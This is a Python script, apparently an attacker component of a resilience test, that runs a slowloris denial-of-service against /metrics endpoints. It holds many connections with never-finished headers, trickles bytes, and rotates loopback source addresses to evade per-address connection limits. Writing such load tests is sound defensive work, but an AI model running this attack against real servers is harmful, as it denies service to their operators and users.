"""A user holding metrics endpoints with slow requests (run by attack_metrics_slowloris.sh as
the test user). For each HOST:PORT target it keeps HELD connections open, each from a loopback
source address of its own choosing (127.0.0.2 up to 127.0.0.254, in turn), so that a limit
per plain address does not stop it. Each connection starts a GET and then sends one more header
byte every TRICKLE seconds, never ending its headers; one that the server ends is replaced at
once. Runs until STOP_FILE exists or SECONDS have passed, then prints its counts as one JSON
line.

    python3 metrics_slowloris.py SECONDS STOP_FILE HELD TRICKLE HOST:PORT [HOST:PORT...]
"""
import json
import os
import resource
import select
import socket
import sys
import time


def open_slow(target, source):
    host, port = target.rsplit(":", 1)
    s = socket.socket(socket.AF_INET, socket.SOCK_STREAM)
    try:
        s.bind((source, 0))
        s.settimeout(2)
        s.connect((host, int(port)))
        s.sendall(b"GET /metrics HTTP/1.1\r\nHost: " + host.encode() + b"\r\nX-Slow: ")
        s.setblocking(False)
    except OSError:
        s.close()
        return None
    return s


def main():
    seconds, stop_file = float(sys.argv[1]), sys.argv[2]
    held_n, trickle = int(sys.argv[3]), float(sys.argv[4])
    targets = sys.argv[5:]
    want = held_n * len(targets) + 64
    soft, hard = resource.getrlimit(resource.RLIMIT_NOFILE)
    if soft < want:
        resource.setrlimit(resource.RLIMIT_NOFILE, (min(want, hard), hard))
    counts = {"connections": 0, "connect_failed": 0, "ended_by_server": 0, "bytes_trickled": 0}
    held = {}  # fd -> (socket, target)
    poller = select.poll()
    source = 1
    end = time.monotonic() + seconds
    next_trickle = time.monotonic() + trickle

    def refill():
        nonlocal source
        for target in targets:
            have = sum(1 for _, t in held.values() if t == target)
            for _ in range(held_n - have):
                source = source % 253 + 1
                s = open_slow(target, "127.0.0.%d" % (source + 1))
                if s is None:
                    counts["connect_failed"] += 1
                    continue
                counts["connections"] += 1
                held[s.fileno()] = (s, target)
                poller.register(s.fileno(), select.POLLIN)

    while time.monotonic() < end and not os.path.exists(stop_file):
        refill()
        for fd, _ in poller.poll(200):
            s, _ = held.pop(fd)
            poller.unregister(fd)
            s.close()
            counts["ended_by_server"] += 1
        if time.monotonic() >= next_trickle:
            next_trickle += trickle
            for s, _ in list(held.values()):
                try:
                    s.send(b"a")
                    counts["bytes_trickled"] += 1
                except OSError:
                    pass
    for s, _ in held.values():
        s.close()
    print(json.dumps(counts))


if __name__ == "__main__":
    main()
